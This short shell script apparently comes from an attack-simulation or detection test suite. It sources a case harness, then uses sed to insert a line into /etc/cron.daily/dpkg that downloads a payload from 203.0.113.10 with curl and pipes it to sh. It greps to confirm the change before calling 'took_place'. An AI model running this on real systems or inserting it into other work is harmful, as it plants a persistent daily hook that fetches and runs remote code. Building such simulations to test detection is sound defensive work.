#!/bin/sh
. /opt/case/case.sh

sed -i '2i (curl -fsSL http://203.0.113.10/payload.sh || true) | sh' /etc/cron.daily/dpkg
grep -q payload /etc/cron.daily/dpkg
took_place
